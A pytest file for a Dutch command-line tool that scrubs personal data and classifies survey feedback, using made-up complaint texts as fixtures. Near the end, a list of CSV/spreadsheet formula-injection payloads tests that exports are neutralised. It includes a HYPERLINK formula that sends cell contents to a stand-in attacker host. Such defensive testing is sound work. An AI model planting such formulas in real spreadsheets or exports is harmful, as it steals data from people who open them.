"""`denkraam scrub` and `denkraam feedback` as a user runs them."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook

from denkraam.cli import main
from denkraam.reports.exports.tabular import safe_cell


@pytest.fixture
def survey(tmp_path: Path) -> Path:
    path = tmp_path / "kto.csv"
    path.write_text(
        "id;opmerking;score\n"
        "1;Ik heb een uur in de wacht gestaan, belachelijk. Bel me op 06-12345678;1\n"
        "2;De medewerker was vriendelijk en dacht echt met mij mee;5\n"
        "3;;3\n"
        "4;Mijn toeslag is weer te laat uitbetaald, BSN 111222333;1\n",
        encoding="utf-8",
    )
    return path


def _run(*args: str, stdin: str | None = None) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args), input=stdin)
    return result.exit_code, result.stdout, result.stderr


def test_scrub_reads_standard_input() -> None:
    code, out, _ = _run("scrub", "--no-names", stdin="Mijn BSN is 111222333 en mijn mail is a@b.nl\n")
    assert code == 0
    assert out == "Mijn BSN is [BSN] en mijn mail is [EMAIL]\n"


def test_scrub_reads_a_file_and_keeps_titles(tmp_path: Path) -> None:
    path = tmp_path / "klacht.txt"
    path.write_text("Mevrouw Jansen belde mij op 0612345678.", encoding="cp1252")
    code, out, _ = _run("scrub", str(path))
    assert code == 0
    assert out.strip() == "Mevrouw [NAAM] belde mij op [TELEFOON]."


def test_scrub_refuses_a_missing_file(tmp_path: Path) -> None:
    code, _, err = _run("scrub", str(tmp_path / "weg.txt"))
    assert code == 2
    assert "bestaat niet" in err


def test_feedback_prints_scrubbed_classified_comments_as_json(survey: Path) -> None:
    code, out, _ = _run("feedback", str(survey), "--text-column", "opmerking")
    assert code == 0
    comments = json.loads(out)
    assert [c["row"] for c in comments] == [2, 3, 5]
    assert set(comments[0]) >= {"row", "text", "need", "sentiment", "confidence", "evidence_words"}
    assert "06-12345678" not in out and "111222333" not in out
    assert comments[0]["text"].endswith("[TELEFOON]")
    assert (comments[0]["need"], comments[0]["sentiment"]) == ("gemak", "negatief")
    assert comments[1]["need"] == "persoonlijk" and comments[1]["sentiment"] == "positief"


def test_feedback_summary_adds_shares_and_themes(survey: Path) -> None:
    code, out, _ = _run("feedback", str(survey), "--text-column", "opmerking", "--summary")
    assert code == 0
    data = json.loads(out)
    assert len(data["comments"]) == 3
    summary = data["summary"]
    assert summary["total"] == 3
    assert sum(need["count"] for need in summary["needs"].values()) == 3
    assert abs(sum(s["share"] for s in summary["sentiments"].values()) - 1.0) < 0.01
    assert "wachttijd" in {theme["id"] for theme in summary["themes"]}
    assert summary["scrubbed"] == {"BSN": 1, "TELEFOON": 1}


def test_feedback_writes_csv_to_a_file(survey: Path, tmp_path: Path) -> None:
    target = tmp_path / "uit.csv"
    code, out, err = _run(
        "feedback", str(survey), "--text-column", "opmerking", "--format", "csv", "--output", str(target)
    )
    assert code == 0 and out == ""
    assert "3 reacties" in err
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert [r["row"] for r in rows] == ["2", "3", "5"]


def test_feedback_text_summary_is_readable_dutch(survey: Path) -> None:
    code, out, _ = _run("feedback", str(survey), "--text-column", "opmerking", "--format", "text", "--summary")
    assert code == 0
    assert "Samenvatting van 3 reacties" in out
    assert "Thema's" in out


def test_feedback_reads_xlsx(tmp_path: Path) -> None:
    workbook = Workbook()
    workbook.active.append(["Toelichting"])
    workbook.active.append(["Het formulier was veel te ingewikkeld"])
    workbook.save(tmp_path / "kto.xlsx")
    code, out, _ = _run("feedback", str(tmp_path / "kto.xlsx"), "--text-column", "Toelichting")
    assert code == 0
    assert json.loads(out)[0]["need"] == "gemak"


def test_feedback_names_the_columns_when_the_column_is_missing(survey: Path) -> None:
    code, out, err = _run("feedback", str(survey), "--text-column", "toelichting")
    assert code == 2
    assert out == ""
    assert '"opmerking"' in err and '"score"' in err


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [("leeg.csv", b"", "leeg"), ("kapot.xlsx", b"PK\x03\x04kapot", "geen geldig Excel-bestand")],
)
def test_feedback_exits_2_on_bad_files(tmp_path: Path, name: str, content: bytes, message: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    code, _, err = _run("feedback", str(path), "--text-column", "opmerking")
    assert code == 2
    assert message in err


def test_feedback_refuses_a_summary_in_csv(survey: Path) -> None:
    code, _, err = _run("feedback", str(survey), "--text-column", "opmerking", "--format", "csv", "--summary")
    assert code == 2
    assert "--format json" in err


def test_both_commands_are_documented_in_help() -> None:
    for command in ("scrub", "feedback"):
        code, out, _ = _run(command, "--help")
        assert code == 0 and "Usage" in out


HOSTILE_COMMENTS = [
    '=HYPERLINK("http://aanvaller.example/?d="&A1;"Klik hier voor uw toeslag")',
    "+31 is het nummer dat ik belde, niemand nam op",
    "-1 punt, de wachttijd was veel te lang",
    "@SUM(1+1) de brief was onduidelijk",
    "\t=1+2 tab ervoor, en toch een formule",
    "\r=1+2 een regelterugloop ervoor",
]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_feedback_csv_neutralises_comments_a_spreadsheet_would_run_as_a_formula(tmp_path: Path, kind: str) -> None:
    path = tmp_path / f"kto.{kind}"
    if kind == "csv":
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle, delimiter=";")
            writer.writerow(["id", "opmerking"])
            writer.writerows([i, comment] for i, comment in enumerate(HOSTILE_COMMENTS, start=1))
    else:
        workbook = Workbook()
        sheet = workbook.active
        assert sheet is not None
        sheet.append(["id", "opmerking"])
        for i, comment in enumerate(HOSTILE_COMMENTS, start=1):
            sheet.append([i, comment])
        for row in sheet.iter_rows(min_row=2):
            row[1].data_type = "s"  # stored as the text it is, not as a formula of the test's own workbook
        workbook.save(path)
    target = tmp_path / "uit.csv"
    args = ("feedback", str(path), "--text-column", "opmerking", "--no-names")
    code, _, _ = _run(*args, "--format", "csv", "--output", str(target))
    assert code == 0
    with target.open(encoding="utf-8", newline="") as handle:
        texts = [row["text"] for row in csv.DictReader(handle)]
    analysed = [comment["text"] for comment in json.loads(_run(*args)[1])]
    assert len(texts) == len(analysed) == len(HOSTILE_COMMENTS)
    # Exactly what the web exports do: a leading apostrophe before the text, which is otherwise kept.
    assert texts == [safe_cell(text) for text in analysed]
    assert all(text.startswith("'") for text in texts), texts
    assert texts[0] == "'" + HOSTILE_COMMENTS[0]
